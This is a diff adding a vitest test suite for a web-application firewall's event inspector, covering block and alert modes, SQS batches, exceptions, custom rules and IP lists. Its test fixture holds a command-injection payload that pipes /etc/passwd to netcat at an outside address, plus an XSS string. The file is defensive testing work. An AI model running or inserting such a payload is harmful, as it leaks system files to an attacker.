@@ -1,0 +1,170 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { inspectEvent } from './inspect-event.ts';
+import { DEFAULT_FIREWALL_POLICY, type FirewallPolicy } from './policy.ts';
+
+const attack = '1; cat /etc/passwd | nc 203.0.113.9 4444';
+
+function policy(own: Partial<FirewallPolicy>): FirewallPolicy {
+  return { ...DEFAULT_FIREWALL_POLICY, ...own };
+}
+
+function request(body: unknown, sourceIp = '198.51.100.7'): object {
+  return {
+    version: '2.0',
+    rawPath: '/',
+    rawQueryString: '',
+    headers: {},
+    requestContext: { http: { method: 'POST', path: '/', sourceIp } },
+    body: JSON.stringify(body),
+  };
+}
+
+function queued(...bodies: readonly string[]): object {
+  return { Records: bodies.map((body, index) => ({ messageId: `m${index}`, eventSource: 'aws:sqs', body })) };
+}
+
+describe('modes', () => {
+  test('alert reports, block blocks, off says nothing', () => {
+    expect(inspectEvent(request({ a: attack })).kind).toBe('alert');
+    expect(inspectEvent(request({ a: attack }), policy({ mode: 'block' })).kind).toBe('block');
+    expect(inspectEvent(request({ a: attack }), policy({ mode: 'off' }))).toMatchObject({
+      kind: 'allow',
+      violations: [],
+    });
+    expect(inspectEvent(request({ a: 'two shirts; one hat' }), policy({ mode: 'block' })).kind).toBe('allow');
+  });
+
+  test('a detector may be weaker than the mode, never stronger', () => {
+    const found = inspectEvent(request({ a: attack }), policy({ mode: 'block' })).violations;
+    const weak = Object.fromEntries(found.map(({ detector }) => [detector, 'alert' as const]));
+    const strong = Object.fromEntries(found.map(({ detector }) => [detector, 'block' as const]));
+    expect(inspectEvent(request({ a: attack }), policy({ mode: 'block', detectors: weak })).kind).toBe(
+      'alert',
+    );
+    expect(inspectEvent(request({ a: attack }), policy({ mode: 'alert', detectors: strong })).kind).toBe(
+      'alert',
+    );
+  });
+
+  test('the surest violation comes first', () => {
+    const { violations } = inspectEvent(request({ a: attack, b: '<script>alert(1)</script>' }));
+    const scores = violations.map(({ score }) => score);
+    expect(scores).toEqual([...scores].sort((a, b) => b - a));
+  });
+});
+
+describe('batches', () => {
+  test('only the records that carry the attack are blocked', () => {
+    expect(inspectEvent(queued('fine', attack, 'fine too'), policy({ mode: 'block' }))).toMatchObject({
+      kind: 'block',
+      blockedRecords: [1],
+    });
+  });
+
+  test('a reason that is the whole event blocks all of it', () => {
+    const verdict = inspectEvent(
+      queued('fine', attack),
+      policy({ mode: 'block', limits: { eventSize: 20 } }),
+    );
+    expect(verdict.kind).toBe('block');
+    expect(verdict.blockedRecords).toBeUndefined();
+  });
+});
+
+describe('exceptions', () => {
+  test.each([
+    [{ detector: '*', field: 'body.a' }, true],
+    [{ detector: '*', field: 'body.*' }, true],
+    [{ detector: '*', field: '*', trigger: 'api-gateway-http' }, true],
+    [{ detector: '*', field: 'body.b' }, false],
+    [{ detector: '*', field: '*', trigger: 'sqs' }, false],
+    [{ detector: 'ldap-injection', field: '*' }, false],
+    [{ detector: '*', field: '*', rule: 'no-such-rule' }, false],
+  ] as const)('%j: %s', (exception, isExcepted) => {
+    const { kind } = inspectEvent(request({ a: attack }), policy({ exceptions: [exception] }));
+    expect(kind).toBe(isExcepted ? 'allow' : 'alert');
+  });
+});
+
+describe("the user's own", () => {
+  const rule = { id: 'internal-id', over: 'event', pattern: 'INT-\\d{6}' } as const;
+
+  test('patterns alert, and block as they say', () => {
+    const event = request({ ref: 'see INT-123456' });
+    expect(inspectEvent(event, policy({ rules: [rule] }))).toMatchObject({
+      kind: 'alert',
+      violations: [{ detector: 'regex-rule', rule: 'internal-id', field: 'body.ref', match: 'INT-123456' }],
+    });
+    expect(inspectEvent(event, policy({ mode: 'block', rules: [rule] })).kind).toBe('block');
+    expect(inspectEvent(event, policy({ mode: 'block', rules: [{ ...rule, mode: 'alert' }] })).kind).toBe(
+      'alert',
+    );
+    expect(inspectEvent(event, policy({ rules: [{ ...rule, mode: 'off' }] })).kind).toBe('allow');
+    expect(inspectEvent(event, policy({ rules: [{ ...rule, field: 'body.other' }] })).kind).toBe('allow');
+    expect(inspectEvent(event, policy({ rules: [{ ...rule, over: 'response' }] })).kind).toBe('allow');
+  });
+
+  test('two rules over one field are both told', () => {
+    const rules = [rule, { ...rule, id: 'second', pattern: 'see' }];
+    expect(inspectEvent(request({ ref: 'see INT-123456' }), policy({ rules })).violations).toHaveLength(2);
+  });
+
+  test('addresses: deny wins, a list of allowed ones lets nobody else in', () => {
+    const addresses = (allow: string[], deny: string[]) =>
+      policy({ mode: 'block', addresses: { allow, deny } });
+    const from = (address: string, own: FirewallPolicy) => inspectEvent(request({}, address), own).kind;
+    expect(from('198.51.100.7', addresses([], ['198.51.100.0/24']))).toBe('block');
+    expect(from('198.51.100.7', addresses([], ['192.0.2.0/24']))).toBe('allow');
+    expect(from('198.51.100.7', addresses(['192.0.2.0/24'], []))).toBe('block');
+    expect(from('198.51.100.7', addresses(['198.51.100.0/24'], ['198.51.100.7']))).toBe('block');
+    expect(inspectEvent(queued('x'), addresses(['192.0.2.0/24'], [])).kind).toBe('allow');
+  });
+
+  test('a load balancer’s word on the address counts, a caller’s own does not', () => {
+    const event = {
+      requestContext: {
+        elb: { targetGroupArn: 'arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/x/1' },
+      },
+      httpMethod: 'GET',
+      path: '/',
+      headers: { 'x-forwarded-for': '192.0.2.1, 203.0.113.9' },
+      body: '',
+    };
+    const denied = (address: string) =>
+      inspectEvent(event, policy({ mode: 'block', addresses: { allow: [], deny: [address] } })).kind;
+    expect(denied('203.0.113.9')).toBe('block');
+    expect(denied('192.0.2.1')).toBe('allow');
+  });
+});
+
+describe('limits', () => {
+  test('an event that is not read to its end says so, and is blocked when the guard is to fail closed', () => {
+    const huge = {
+      texts: Array.from({ length: 40 }, (_, index) => `${index}${'lorem ipsum '.repeat(25_000)}`),
+    };
+    expect(inspectEvent(huge)).toMatchObject({
+      kind: 'alert',
+      isTruncated: true,
+      violations: [{ detector: 'work-limit' }],
+    });
+    expect(inspectEvent(huge, policy({ mode: 'block' })).kind).toBe('alert');
+    expect(inspectEvent(huge, policy({ mode: 'block', onFailure: 'closed' })).kind).toBe('block');
+  });
+
+  test('whatever the event, there is a verdict', () => {
+    fc.assert(
+      fc.property(fc.oneof(fc.jsonValue(), fc.anything()), (event) => {
+        expect(['allow', 'alert', 'block']).toContain(inspectEvent(event, policy({ mode: 'block' })).kind);
+      }),
+    );
+  });
+
+  test('the same event gives the same verdict', () => {
+    fc.assert(
+      fc.property(fc.jsonValue(), (event) => {
+        expect(inspectEvent(event)).toEqual(inspectEvent(event));
+      }),
+    );
+  });
+});
